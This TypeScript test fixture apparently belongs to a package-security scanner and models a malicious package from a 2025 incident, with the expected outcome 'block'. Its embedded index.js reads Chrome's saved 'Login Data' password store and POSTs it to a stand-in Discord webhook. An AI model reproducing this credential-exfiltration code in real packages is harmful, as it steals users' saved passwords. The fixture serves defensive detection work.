import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-messenger-webhook',
  from: 'rand packages, 2025: a browser store sent to a messenger',
  files: {
    'index.js': `const fs = require('fs');
const os = require('os');
const file = os.homedir() + '/AppData/Local/Google/Chrome/User Data/Default/Login Data';
fetch('https://discord.invalid/api/webhooks/1/inert', { method: 'POST', body: fs.readFileSync(file) });
`,
  },
  expect: 'block',
  says: ['sends-credentials'],
};
